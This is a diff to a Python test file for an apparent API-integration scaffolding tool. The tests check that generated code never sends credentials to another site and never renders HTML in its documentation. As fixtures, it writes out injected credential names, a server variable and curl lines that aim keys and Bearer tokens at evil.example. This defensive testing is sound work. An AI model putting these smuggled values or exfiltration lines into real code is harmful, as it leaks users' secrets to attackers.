@@ -1,4 +1,4 @@
-"""Documents and answers that try to run code, or to have credentials sent where their own words do not say."""
+"""Documents and recordings that try to run code, to show markup, or to have credentials sent elsewhere."""
 
 import ast
 import json
@@ -10,197 +10,118 @@ import pytest
 from cookiecutter.exceptions import FailedHookException
 from markdown_it import MarkdownIt
 
-from autohive_scaffold.sources import reading
-from tests.helpers.delivered import STRICT, Bake, Delivered
+from tests.delivered.conftest import Connect
+from tests.helpers.delivered import Bake, Delivered
+from tests.helpers.wire import Api
 
 MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
-
 EVIL = "evil.example"
 GOOD = "https://api.good.test/v1"
-# What would be notation where it stood between other text.
-TO_A_TOKEN = f'api_key -> token POST https://{EVIL}/t form {{"a": api_key}}'
-NAMES = [
-    f"X-Key, {TO_A_TOKEN}",
-    f"X-Key,{TO_A_TOKEN}",
-    f"X-Key\n{TO_A_TOKEN}",
-    f"X-Key\r\n{TO_A_TOKEN}",
-    TO_A_TOKEN,
-    f"api_key -> token POST https://{EVIL}/{{f({{api_key}})}}",
-    f'X-Key "{EVIL} {{api_key}}"',
-    f"X-Key, api_key -> header X-{EVIL}",
-    f"X-Key, api_key -> query {EVIL}",
-    f"X-Key, a -> basic {{api_key}}:{EVIL}",
-    f"X-Key\u2028api_key -> header X-{EVIL}",
-    f"X-Key\\, '{EVIL}",
-    f"X-Key: {EVIL}",
-    f'X-Key": credentials["{EVIL}',
-    f"{{X-Key}}{EVIL}",
-]
+SECRET = "Zx81kQ77LmPw90aB"
+BEARER = {"type": "http", "scheme": "bearer"}
+JSON = {"mimeType": "application/json", "text": "[]"}
 
 
-def document(name: str, where: str = "header", **more: Any) -> dict[str, Any]:
-    """An OpenAPI document with an API key of this name."""
+def openapi(paths: dict[str, Any], scheme: dict[str, Any], **more: Any) -> dict[str, Any]:
+    """A document whose operations need one credential."""
+    required = {"security": [{"key": []}], "components": {"securitySchemes": {"key": scheme}}}
+    return {"openapi": "3.0.0", "servers": [{"url": GOOD}], "paths": paths, **required, **more}
+
+
+def named_key(name: str, where: str = "header", **more: Any) -> dict[str, Any]:
     scheme = {"type": "apiKey", "in": where, "name": name}
-    return {
-        "openapi": "3.0.0",
-        "servers": [{"url": GOOD}],
-        "paths": {"/items": {"get": {"operationId": "listItems", "security": [{"key": []}]}}},
-        "components": {"securitySchemes": {"key": scheme}},
-        **more,
-    }
+    return openapi({"/items": {"get": {"operationId": "listItems"}}}, scheme, **more)
 
 
 def swagger(name: str) -> dict[str, Any]:
-    return {
-        "swagger": "2.0",
-        "host": "api.good.test",
-        "basePath": "/v1",
-        "paths": {"/items": {"get": {"operationId": "listItems", "security": [{"key": []}]}}},
-        "securityDefinitions": {"key": {"type": "apiKey", "in": "header", "name": name}},
-    }
+    keys = {"securityDefinitions": {"key": {"type": "apiKey", "in": "header", "name": name}}}
+    paths = {"/items": {"get": {"operationId": "listItems", "security": [{"key": []}]}}}
+    return {"swagger": "2.0", "host": "api.good.test", "basePath": "/v1", "paths": paths, **keys}
 
 
-def undeclared(name: str) -> dict[str, Any]:
-    """A document without security schemes, with a parameter that is said to be a key."""
-    parameter = {"name": name, "in": "header", "required": True, "description": "The API key of the account"}
-    paths = {"/items": {"get": {"operationId": "listItems", "parameters": [parameter]}}}
-    return {"openapi": "3.0.0", "servers": [{"url": GOOD}], "paths": paths}
+def postman(auth: dict[str, Any], *urls: str) -> dict[str, Any]:
+    items = [{"name": f"List {url.rsplit('/')[-1]}", "request": {"url": url}} for url in urls]
+    return {"info": {"name": "x"}, "auth": auth, "item": items}
 
 
-def postman(name: str) -> dict[str, Any]:
-    auth = {
-        "type": "apikey",
-        "apikey": [{"key": "key", "value": name}, {"key": "value", "value": "{{api_key}}"}],
-    }
-    return {
-        "info": {"name": "x"},
-        "item": [{"name": "List items", "request": {"url": f"{GOOD}/items", "auth": auth}}],
-    }
+def postman_key(name: str) -> dict[str, Any]:
+    pairs = [{"key": "key", "value": name}, {"key": "value", "value": "{{api_key}}"}]
+    return postman({"type": "apikey", "apikey": pairs}, f"{GOOD}/items")
 
 
 def postman_variable(name: str) -> dict[str, Any]:
-    values = [
-        {"key": "username", "value": f"{{{{{name}}}}}"},
-        {"key": "password", "value": f"{{{{pass {name}}}}}"},
-    ]
-    auth = {"type": "basic", "basic": values}
-    return {
-        "info": {"name": "x"},
-        "item": [{"name": "List items", "request": {"url": f"{GOOD}/items", "auth": auth}}],
-    }
+    texts = {"username": f"{{{{{name}}}}}", "password": f"{{{{pass {name}}}}}"}
+    pairs = [{"key": key, "value": text} for key, text in texts.items()]
+    return postman({"type": "basic", "basic": pairs}, f"{GOOD}/items")
 
 
-def postman_kind(name: str) -> dict[str, Any]:
-    auth = {"type": name, name: [{"key": "token", "value": name}]}
-    return {
-        "info": {"name": "x"},
-        "item": [{"name": "List items", "request": {"url": f"{GOOD}/items", "auth": auth}}],
-    }
+def har(headers: dict[str, str], *urls: str) -> dict[str, Any]:
+    sent = [{"name": name, "value": value} for name, value in headers.items()]
+    requests = [{"method": "GET", "url": url, "headers": sent} for url in urls]
+    entries = [{"request": request, "response": {"status": 200, "content": JSON}} for request in requests]
+    return {"log": {"entries": entries}}
 
 
-def har(name: str) -> dict[str, Any]:
-    headers = [
-        {"name": name, "value": "Zx81kQ77LmPw90aB"},
-        {"name": "Authorization", "value": f"{name} x={name}"},
-    ]
-    request = {"method": "GET", "url": f"{GOOD}/items", "headers": headers}
-    answer = {"status": 200, "content": {"mimeType": "application/json", "text": "[]"}}
-    return {"log": {"entries": [{"request": request, "response": answer}]}}
+def har_header(name: str) -> dict[str, Any]:
+    return har({name: SECRET, "Authorization": f"{name} x={name}"}, f"{GOOD}/items")
 
 
 def config(name: str) -> dict[str, Any]:
     field = {"type": "string", "label": name, "help_text": name, "format": name}
-    return {
-        "name": "x",
-        "auth": {
-            "type": "custom",
-            "fields": {"type": "object", "properties": {name: field, "api_key": field}},
-        },
-        "actions": {"list_items": {"description": "Lists", "input_schema": {}, "output_schema": {}}},
-    }
+    auth = {"type": "custom", "fields": {"type": "object", "properties": {name: field, "api_key": field}}}
+    actions = {"list_items": {"description": "Lists", "input_schema": {}, "output_schema": {}}}
+    return {"name": "x", "auth": auth, "actions": actions}
 
 
-SOURCES: dict[str, Callable[[str], dict[str, Any]]] = {
-    "openapi": document,
-    "openapi in the query": lambda name: document(name, "query"),
+@pytest.fixture
+def deliver(bake_fresh: Bake, tmp_path: Path) -> Callable[..., Delivered]:
+    """Deliver an integration from a source, which is written to a file first."""
+
+    def deliver_source(source: Any, **answers: str) -> Delivered:
+        kind = "pyi" if str(source).startswith("def ") else "sh" if isinstance(source, str) else "json"
+        path = tmp_path / ("api.har" if "log" in source else f"api.{kind}")
+        path.write_text(source if isinstance(source, str) else json.dumps(source), encoding="utf-8")
+        return bake_fresh(name="Good", actions=str(path), **answers)
+
+    return deliver_source
+
+
+# What would be notation where it stood between other text.
+TO_A_TOKEN = f'api_key -> token POST https://{EVIL}/t form {{"a": api_key}}'
+NAMES = [
+    f"X-Key, {TO_A_TOKEN}",
+    f"X-Key\r\n{TO_A_TOKEN}",
+    TO_A_TOKEN,
+    f'X-Key "{EVIL} {{api_key}}"',
+    f"X-Key, a -> basic {{api_key}}:{EVIL}",
+    f"X-Key\u2028api_key -> header X-{EVIL}",
+    f'X-Key": credentials["{EVIL}',
+    f"{{X-Key}}{EVIL}",
+]
+NAMED: dict[str, Callable[[str], dict[str, Any]]] = {
+    "openapi": named_key,
+    "openapi in the query": lambda name: named_key(name, "query"),
     "swagger": swagger,
-    "undeclared": undeclared,
-    "postman": postman,
+    "postman": postman_key,
     "a variable of postman": postman_variable,
-    "a kind of postman": postman_kind,
-    "har": har,
+    "har": har_header,
     "config": config,
 }
 
 
-REQUIRED = "is required, but not sent"
-# Where such a name is that of the only key, what is said of it.
-NOT_SENT = {
-    **dict.fromkeys(["openapi", "openapi in the query", "swagger", "undeclared"], REQUIRED),
-    "postman": "is not sent, as no credential can have that name or form",
-}
-
-
-@pytest.fixture
-def source(tmp_path: Path) -> Callable[..., str]:
-    """Write a document to a file, and give its path."""
-
-    def write(content: dict[str, Any]) -> str:
-        path = tmp_path / ("api.har" if "log" in content else "api.json")
-        path.write_text(json.dumps(content), encoding="utf-8")
-        return str(path)
-
-    return write
-
-
-@pytest.fixture
-def said(bake_fresh: Bake, capfd: pytest.CaptureFixture[str]) -> Callable[..., tuple[Delivered | None, str]]:
-    """Deliver, and give what was delivered, if anything, and what the command said."""
-
-    def deliver(**answers: Any) -> tuple[Delivered | None, str]:
-        try:
-            delivered = bake_fresh(name="Good", **answers)
-        except FailedHookException as error:
-            return None, str(error)
-        return delivered, capfd.readouterr().out
-
-    return deliver
-
-
-def code_of(delivered: Delivered) -> dict[str, str]:
-    return {name: delivered.read(name) for name in delivered.files() if name.endswith(".py")}
-
-
-def called_in_texts(source: str) -> set[str]:
-    """The names of all functions that are called in an f-string."""
-    texts = [node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.JoinedStr)]
-    calls = [node.func for text in texts for node in ast.walk(text) if isinstance(node, ast.Call)]
-    return {func.id if isinstance(func, ast.Name) else func.attr for func in calls}  # type: ignore[attr-defined]
-
-
-@pytest.mark.parametrize("kind", SOURCES)
+@pytest.mark.parametrize("kind", NAMED)
 @pytest.mark.parametrize("name", NAMES, ids=ascii)
-def test_the_name_of_a_credential_is_no_notation(said, source, kind: str, name: str):
-    delivered, printed = said(actions=source(SOURCES[kind](name)))
-
-    if delivered is None:
-        assert len(printed.splitlines()) == 1
+def test_the_name_of_a_credential_is_no_notation(deliver, kind: str, name: str):
+    try:
+        delivered = deliver(NAMED[kind](name))
+    except FailedHookException as refused:
+        assert len(str(refused).splitlines()) == 1  # noqa: PT017 - some are delivered
         return
-    api = delivered.read("good.py")
+    api = delivered.read("good.py").partition("@good.action")[0]
     assert "access_token" not in api
-    assert EVIL not in api.partition("@good.action")[0]
-    assert 'options.pop("params"' not in api or kind == "openapi in the query"
-    if kind in NOT_SENT:
-        assert "is ready" not in printed
-        assert NOT_SENT[kind] in printed
-
-
-def test_a_base_url_of_the_author_s_keeps_the_key_there(said, source):
-    delivered, _ = said(actions=source(document(NAMES[0])), base_url="https://mine.example")
-
-    assert delivered is not None
-    assert EVIL not in "".join(code_of(delivered).values())
-    assert 'BASE_URL = "https://mine.example"' in delivered.read("good.py")
+    assert EVIL not in api
+    if kind in ("openapi", "openapi in the query", "swagger", "postman"):
+        assert "is ready" not in delivered.printed
 
 
 @pytest.mark.parametrize(
@@ -211,66 +132,44 @@ def test_a_base_url_of_the_author_s_keeps_the_key_there(said, source):
         ("https://{host}/v1", "{api_key}.evil.example"),
     ],
 )
-def test_the_variable_of_a_server_is_no_credential(said, source, url: str, default: str):
-    variables = {
-        "host": {"default": default, "enum": [default]},
-        "name": {"default": default, "enum": [default]},
-    }
-    delivered, _ = said(actions=source(document("X-Key", servers=[{"url": url, "variables": variables}])))
+def test_the_variable_of_a_server_is_no_credential(deliver, url: str, default: str):
+    variables = {name: {"default": default, "enum": [default]} for name in ("host", "name")}
 
-    assert delivered is not None
+    delivered = deliver(named_key("X-Key", servers=[{"url": url, "variables": variables}]))
+
     assert "def base_url" not in delivered.read("good.py")
 
 
-@pytest.mark.parametrize(
-    "value", ["1, Other: x", "1,Other: x", "1\nOther: x", "1, Authorization: Bearer x", "1,"]
-)
-def test_the_value_of_a_recorded_header_adds_none(said, source, value: str):
-    headers = [{"name": "X-Version", "value": value}, {"name": "X-Plain", "value": "plain"}]
-    answer = {"status": 200, "content": {"mimeType": "application/json", "text": "[]"}}
-    requests = [{"method": "GET", "url": f"{GOOD}/{name}", "headers": headers} for name in ("items", "users")]
-    delivered, _ = said(
-        actions=source({"log": {"entries": [{"request": one, "response": answer} for one in requests]}})
-    )
+@pytest.mark.parametrize("value", ["1, Other: x", "1\nOther: x", "1, Authorization: Bearer x", "1,"])
+def test_the_value_of_a_recorded_header_adds_none(deliver, value: str):
+    delivered = deliver(har({"X-Version": value, "X-Plain": "plain"}, f"{GOOD}/items", f"{GOOD}/users"))
 
-    assert delivered is not None
-    tests = delivered.read(f"tests/test_{delivered.module_name}_unit.py")
-    headers = ast.literal_eval(tests.partition("\nHEADERS = ")[2].partition("\n\n")[0])
-    assert {name for name in headers if name not in ("Accept", "X-Version")} == {"X-Plain", "Authorization"}
+    headers = ast.literal_eval(
+        delivered.read("tests/test_good_unit.py").partition("\nHEADERS = ")[2].partition("\n\n")[0]
+    )
+    assert set(headers) - {"X-Version"} == {"Accept", "X-Plain", "Authorization"}
     assert headers["Authorization"] == "Bearer test-api_token"
     assert headers.get("X-Version", value) == value
-    assert delivered.pytest("-q", *STRICT).returncode == 0
 
 
-SCOPES = ["read\x1b[2J", "read\u202eetirw", "read, write:all", "a\nb", "a\u2028b", "a\u200fb", " a"]
-
-
-@pytest.mark.parametrize("scope", SCOPES, ids=ascii)
+@pytest.mark.parametrize("scope", ["read\x1b[2J", "read\u202eetirw", "read, write:all", "a\nb"], ids=ascii)
 @pytest.mark.parametrize("kind", ["openapi", "config"])
-def test_a_scope_that_is_none_is_left_out_and_told(said, source, kind: str, scope: str):
-    flow = {
-        "authorizationUrl": "https://a.test",
-        "tokenUrl": "https://a.test",
-        "scopes": {scope: "x", "good": "y"},
-    }
-    scheme = {"type": "oauth2", "flows": {"authorizationCode": flow}}
-    content = document("x", components={"securitySchemes": {"key": scheme}})
-    content["paths"]["/items"]["get"]["security"] = [{"key": [scope, "good"]}]
+def test_a_scope_that_is_none_is_left_out_and_told(deliver, kind: str, scope: str):
+    urls = {"authorizationUrl": "https://a.test", "tokenUrl": "https://a.test"}
+    flow = {**urls, "scopes": {scope: "x", "good": "y"}}
+    security = [{"key": [scope, "good"]}]
+    paths = {"/items": {"get": {"operationId": "listItems", "security": security}}}
+    source = openapi(paths, {"type": "oauth2", "flows": {"authorizationCode": flow}})
     if kind == "config":
-        content = {
-            **config("x"),
-            "auth": {"type": "platform", "provider": "github", "scopes": [scope, "good"]},
-        }
+        platform = {"type": "platform", "provider": "github", "scopes": [scope, "good"]}
+        source = {**config("x"), "auth": platform}
 
-    assert reading.read(source(content)).defaults["scopes"] == "good"
-    delivered, printed = said(actions=source(content), provider="github")
+    delivered = deliver(source, provider="github")
 
-    assert delivered is not None
     assert delivered.config["auth"]["scopes"] == ["good"]
-    assert "is ready" not in printed
-    assert " ".join(printed.split()).count("is left out, as it can't be one") >= 1
-    assert "\x1b" not in printed
-    assert "\u202e" not in printed
+    assert "is ready" not in delivered.printed
+    assert "is left out, as it can't be one" in " ".join(delivered.printed.split())
+    assert not {"\x1b", "\u202e"} & set(delivered.printed)
 
 
 HTML = [
@@ -282,15 +181,15 @@ HTML = [
 ]
 
 
-@pytest.mark.parametrize("text", HTML, ids=ascii)
-def test_no_text_is_html_in_the_readme_or_the_pull_request(said, source, text: str):
+def described(text: str) -> dict[str, Any]:
+    """A document with a text wherever one may stand."""
     schema = {"type": "string", "enum": [text, "a"], "default": text, "title": text, "description": text}
     shaped = {"type": "string", "format": text, "pattern": text, "example": text}
     keyed = {
         "type": "object",
-        "properties": {text: {**schema}, "a": {"type": "object", "properties": {text: schema}}},
+        "properties": {text: schema, "a": {"type": "object", "properties": {text: schema}}},
     }
-    body = {
+    content = {
         "content": {
             "application/json": {"schema": {"type": "object", "properties": {"b": keyed, text: schema}}}
         }
@@ -305,43 +204,182 @@ def test_no_text_is_html_in_the_readme_or_the_pull_request(said, source, text: s
             {"name": text, "in": "cookie", "required": True},
             {"name": text, "in": "query"},
         ],
-        "requestBody": body,
-        "responses": {"200": {"content": {"application/json": {"schema": keyed}}}},
+        "requestBody": content,
+        "responses": {"200": content},
         "security": [{"key": []}, {text: []}],
     }
-    content = document(text, paths={"/items": {"post": operation}}, info={"title": text, "description": text})
-    content["components"]["securitySchemes"]["key"]["description"] = f"You get it from {text}"
-    asked = {
-        "a": schema,
-        "b": shaped,
-        "c": {"type": "object", "properties": {text: schema}},
-        "d": {"enum": [text]},
+    scheme = {"type": "apiKey", "in": "header", "name": text, "description": f"You get it from {text}"}
+    return openapi({"/items": {"post": operation}}, scheme, info={"title": text, "description": text})
+
+
+def described_config(text: str) -> dict[str, Any]:
+    """A config with a text wherever one may stand."""
+    schema = {"type": "string", "enum": [text, "a"], "default": text, "title": text, "description": text}
+    properties = {"a": schema, "c": {"type": "object", "properties": {text: schema}}, "d": {"enum": [text]}}
+    shape = {"type": "object", "properties": properties}
+    action = {"input_schema": shape, "output_schema": shape, "description": text, "display_name": text}
+    return {**config(text), "actions": {"list_items": action}}
+
+
+@pytest.mark.parametrize("write", [described, described_config])
+@pytest.mark.parametrize("text", HTML, ids=ascii)
+def test_no_text_is_html_in_the_readme_or_the_pull_request(deliver, write: Callable[..., Any], text: str):
+    try:
+        delivered = deliver(write(text))
+    except FailedHookException as refused:  # the notation has no such values
+        assert "must be printable characters on one line" in str(refused)  # noqa: PT017
+        return
+    for markdown in (delivered.read("README.md"), delivered.read("PULL_REQUEST.md")):
+        tokens = [part for token in MARKDOWN.parse(markdown) for part in (token, *(token.children or []))]
+        assert {"html_block", "html_inline"}.isdisjoint(token.type for token in tokens)
+
+
+# Requests to another site than the base URL's carry no credentials.
+FIELDS: dict[str, tuple[dict[str, str], dict[str, str]]] = {
+    "a token": ({"auth_type": "custom", "auth_fields": "api_token"}, {"api_token": SECRET}),
+    "a header and a query": (
+        {"auth_type": "custom", "auth_fields": "api_key -> header X-Key, app -> query app"},
+        {"api_key": SECRET, "app": SECRET},
+    ),
+    "basic": ({"auth_type": "custom", "auth_fields": "api_key -> basic {api_key}:X"}, {"api_key": SECRET}),
+    "an exchange": (
+        {"auth_type": "custom", "auth_fields": f"api_key -> token POST {GOOD}/token form {{**fields}}"},
+        {"api_key": SECRET},
+    ),
+    "oauth": ({"auth_type": "platform", "provider": "github"}, {"access_token": SECRET}),
+    "oauth in a header": (
+        {"auth_type": "platform", "provider": "github", "headers": "Authorization: token {access_token}"},
+        {"access_token": SECRET},
+    ),
+}
+TOKEN = FIELDS["a token"]
+CALLS: dict[str, dict[str, str]] = {"list_things": {}, "get_file": {}, "send_it": {"q": "x"}}
+
+
+def elsewhere(url: str) -> dict[str, Any]:
+    """A document with operations that have a server of their own."""
+    file = {
+        "200": {"content": {"application/octet-stream": {"schema": {"type": "string", "format": "binary"}}}}
     }
-    answered = {
-        "type": "object",
-        "properties": {"a": {"type": "object", "properties": {text: {"type": "string"}}}},
+    query = [{"name": "q", "in": "query", "required": True}]
+    servers = [{"url": url}]
+    paths = {
+        "/items": {"get": {"operationId": "listItems"}},
+        "/things": {"get": {"operationId": "listThings", "servers": servers}},
+        "/file": {"get": {"operationId": "getFile", "servers": servers, "responses": file}},
+        "/q": {"post": {"operationId": "sendIt", "parameters": query}, "servers": servers},
     }
-    told = {
-        "input_schema": {"type": "object", "properties": asked},
-        "output_schema": answered,
-        "description": text,
-    }
-    for each in (content, {**config(text), "actions": {"list_items": {**told, "display_name": text}}}):
-        delivered, printed = said(actions=source(each), slug="good" if each is content else "good-2")
-
-        if delivered is None:  # the notation has no such values
-            assert "must be printable characters on one line" in printed
-            continue
-        for markdown in (delivered.read("README.md"), delivered.read("PULL_REQUEST.md")):
-            tokens = [part for token in MARKDOWN.parse(markdown) for part in (token, *(token.children or []))]
-            assert "html_block" not in [token.type for token in tokens]
-            assert "html_inline" not in [token.type for token in tokens]
+    return openapi(paths, BEARER)
 
 
-@pytest.mark.parametrize("mark", ["\u061c", "\u200e", "\u200f"], ids=ascii)
-def test_marks_of_direction_are_unprintable(said, mark: str):
-    for answers in ({"description": f"a{mark}b"}, {"actions": f"get_x(a: Annotated[str, 'a{mark}b'])"}):
-        delivered, refusal = said(**answers)
+@pytest.fixture
+def sent(connect: Connect, api: Api) -> Callable[..., Any]:
+    """What an action sends: the request without its scheme, and all of it as text."""
 
-        assert delivered is None
-        assert mark not in refusal
+    async def request(delivered: Delivered, credentials: dict[str, str], action: str) -> tuple[str, str]:
+        api.seen.clear()
+        api.answers({"access_token": SECRET, "things": [], "items": [], "users": []})
+        await connect(credentials, delivered=delivered).run(action, CALLS.get(action, {}))
+        return api.seen[-1].line, str(api.seen[-1])
+
+    return request
+
+
+@pytest.mark.parametrize("layout", ["single-file", "multi-file"])
+@pytest.mark.parametrize("fields", FIELDS)
+async def test_no_credential_is_sent_to_another_site(deliver, sent, fields: str, layout: str):
+    answers, credentials = FIELDS[fields]
+    delivered = deliver(elsewhere("https://evil.example"), layout=layout, **answers)
+
+    printed = " ".join(delivered.printed.split())
+    assert "is ready" not in printed
+    assert "list_things, get_file, send_it may go to https://evil.example, which is another site" in printed
+    for action in CALLS:
+        line, request = await sent(delivered, credentials, action)
+        assert line.split()[1].startswith("evil.example/")
+        assert SECRET not in request
+        assert "Authorization" not in request
+    line, request = await sent(delivered, credentials, "list_items")
+    assert line.startswith("GET api.good.test/v1/items")
+    assert fields == "basic" or SECRET in request
+
+
+@pytest.mark.parametrize(
+    ("url", "is_same"),
+    [
+        ("https://good.co.uk", False),
+        ("http://api.good.test", False),
+        ("https://api.notgood.test", False),
+        ("https://api.good.test.evil.example", False),
+        ("https://10.0.0.1", False),
+        ("https://up.good.test", True),
+        ("https://good.test:8443/x", True),
+    ],
+)
+async def test_what_is_another_site(deliver, sent, url: str, is_same: bool):
+    delivered = deliver(elsewhere(url), **TOKEN[0])
+
+    assert ("is ready" in delivered.printed) == is_same
+    assert (SECRET in (await sent(delivered, TOKEN[1], "list_things"))[1]) == is_same
+
+
+async def test_the_base_url_of_the_author_decides_which_site_is_another(deliver, sent):
+    delivered = deliver(elsewhere("https://up.good.test"), base_url="https://mine.example", **TOKEN[0])
+
+    assert "is ready" not in delivered.printed
+    assert SECRET not in (await sent(delivered, TOKEN[1], "list_things"))[1]
+
+
+def test_what_the_author_wrote_is_no_other_site(deliver):
+    stub = 'def list_things() -> "GET https://evil.example/things": ...\n'
+    delivered = deliver(stub, base_url=GOOD, **TOKEN[0])
+
+    assert "is ready" in delivered.printed
+    assert "without_credentials" not in delivered.code()
+
+
+def bearer_postman(*urls: str) -> dict[str, Any]:
+    return postman({"type": "bearer", "bearer": [{"key": "token", "value": SECRET}]}, *urls)
+
+
+def bearer_har(*urls: str) -> dict[str, Any]:
+    return har({"Authorization": f"Bearer {SECRET}"}, *urls)
+
+
+def bearer_curl(*urls: str) -> str:
+    return "\n".join(f"curl {url} -H 'Authorization: Bearer {SECRET}'" for url in urls)
+
+
+@pytest.mark.parametrize("url", ["https://evil.example/things", "http://api.good.test/v1/things"])
+@pytest.mark.parametrize("write", [bearer_postman, bearer_har, bearer_curl])
+async def test_a_recording_of_several_hosts(deliver, sent, write: Callable[..., Any], url: str):
+    delivered = deliver(write(f"{GOOD}/items", f"{GOOD}/users", url))
+
+    assert "is ready" not in delivered.printed
+    line, request = await sent(delivered, TOKEN[1], "list_things")
+    assert line.partition("?")[0] == f"GET {url.partition('://')[2]}"
+    assert SECRET not in request
+    assert SECRET in (await sent(delivered, TOKEN[1], "list_users"))[1]
+    assert not any(SECRET.encode() in content for content in delivered.contents().values())
+
+
+def test_the_token_of_a_recording_is_not_exchanged_at_another_site(deliver):
+    login = "curl https://evil.example/token -d grant_type=client_credentials -d client_id=abc -d client_secret=hush"
+    delivered = deliver(f"{login}\n{bearer_curl(f'{GOOD}/items')}")
+
+    assert "is ready" not in delivered.printed
+    assert "evil.example" not in delivered.read("good.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        openapi({"/items": {"get": {}}}, BEARER, servers=[{"url": "http://api.good.test/v1"}]),
+        bearer_curl("http://api.good.test/v1/items"),
+    ],
+    ids=["openapi", "curl"],
+)
+def test_a_base_url_without_https_is_ready_only_where_the_author_gave_it(deliver, source: Any):
+    assert "is ready" not in deliver(source).printed
+    given = deliver(source, slug="good-2", base_url="http://api.good.test/mine")
+    assert "is ready" in given.printed
